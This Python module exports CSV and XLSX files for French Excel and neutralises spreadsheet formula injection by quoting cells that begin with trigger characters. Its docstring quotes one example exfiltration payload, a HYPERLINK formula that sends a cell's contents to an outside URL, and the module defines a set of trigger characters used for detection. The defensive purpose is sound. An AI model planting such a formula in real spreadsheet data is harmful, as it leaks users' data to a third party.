"""Spreadsheet files for French Excel: CSV (UTF-8 with BOM, `;`, CRLF) and XLSX, safe to open.

Any text cell that a spreadsheet would read as a formula is neutralised as OWASP advises against CSV
injection: a provider's question, a business name or a note that begins with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return (``=HYPERLINK("http://…?"&A1)`` leaks the sheet on a click) gets a leading
single quote, also when the character comes after spaces (spreadsheets skip them), and the XLSX cell is
written as a string with Excel's quote prefix. One module for every export (question log, diagnostic).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence

# ASCII triggers, and their full-width forms that some spreadsheet locales fold to ASCII.
TRIGGERS = frozenset("=+-@\t\r＝＋－＠")


def is_risky(value: str) -> bool:
    if value[:1] in ("\t", "\r"):
        return True
    stripped = value.lstrip(" \u00a0\n\t\r")
    return stripped[:1] in TRIGGERS if stripped else False


def neutralise(value: str) -> str:
    """The text as a spreadsheet will show it literally; untouched when it cannot start a formula."""
    return "'" + value if is_risky(value) else value


def neutral(value: object) -> object:
    """Numbers stay numbers; text that could start a formula is quoted."""
    return neutralise(value) if isinstance(value, str) else value


def csv_bytes(header: Sequence[str], rows: Sequence[Sequence[object]]) -> bytes:
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=";", quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
    writer.writerow([neutral(h) for h in header])
    for row in rows:
        writer.writerow(["" if v is None else neutral(v) for v in row])
    return buf.getvalue().encode("utf-8-sig")


def xlsx_bytes(
    sheet: str, header: Sequence[str], rows: Sequence[Sequence[object]], widths: Sequence[int] = ()
) -> bytes:
    from openpyxl import Workbook
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = sheet[:31]  # Excel's limit for a sheet name
    ws.append([neutral(h) for h in header])
    for cell in ws[1]:
        cell.font = Font(bold=True)
    for row in rows:
        ws.append([neutral(v) for v in row])
        for cell in ws[ws.max_row]:
            if isinstance(cell.value, str):
                # Text, whatever it looks like: openpyxl would otherwise store "=…" as a formula.
                cell.data_type = "s"
                cell.quotePrefix = cell.value.startswith("'")
    ws.freeze_panes = "A2"
    for n, width in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(n)].width = width
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
